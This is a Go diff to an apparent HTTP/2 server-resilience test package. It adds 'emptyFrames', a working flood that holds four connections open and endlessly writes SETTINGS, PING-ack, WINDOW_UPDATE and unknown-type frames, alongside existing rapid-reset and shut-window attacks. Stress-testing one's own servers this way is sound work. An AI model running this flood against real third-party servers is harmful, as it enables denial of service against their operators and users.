@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"io"
@@ -41,6 +42,7 @@ func connections() []Attack {
 		{Name: "probes that are reset", Run: resets},
 		{Name: "HTTP/2 streams whose window stays shut", Run: shutWindows},
 		{Name: "HTTP/2 streams that are reset at once", Run: rapidResets},
+		{Name: "HTTP/2 frames that ask for nothing", Run: emptyFrames},
 	}
 }
 
@@ -201,6 +203,48 @@ func (t *Target) frames(ctx context.Context, streams int, reset bool) int {
 	}
 	if !reset {
 		<-ctx.Done()
+	}
+	return n
+}
+
+// emptyFrames sends frames without content on few HTTP/2 connections, without end. It
+// counts a thousand of them as one request.
+func emptyFrames(ctx context.Context, t *Target) int {
+	var wg sync.WaitGroup
+	counts := make([]int, 4)
+	for i := range counts {
+		wg.Go(func() { counts[i] = t.empty(ctx) })
+	}
+	wg.Wait()
+	return sum(counts)
+}
+
+func (t *Target) empty(ctx context.Context) (n int) {
+	c, err := t.dial(ctx)
+	if err != nil {
+		return 0
+	}
+	defer context.AfterFunc(ctx, func() { _ = c.Close() })() // which ends what is written
+	go func() { _, _ = io.Copy(io.Discard, c) }()
+	var out bytes.Buffer
+	f := http2.NewFramer(&out, nil)
+	_, _ = out.WriteString(http2.ClientPreface)
+	_ = f.WriteSettings()
+	if _, err := c.Write(out.Bytes()); err != nil {
+		return 0
+	}
+	out.Reset()
+	for range 250 {
+		_ = f.WriteSettings()
+		_ = f.WritePing(true, [8]byte{})
+		_ = f.WriteWindowUpdate(0, 1)
+		_ = f.WriteRawFrame(0xbe, 0, 0, nil)
+	}
+	for ctx.Err() == nil {
+		if _, err := c.Write(out.Bytes()); err != nil {
+			break
+		}
+		n++
 	}
 	return n
 }
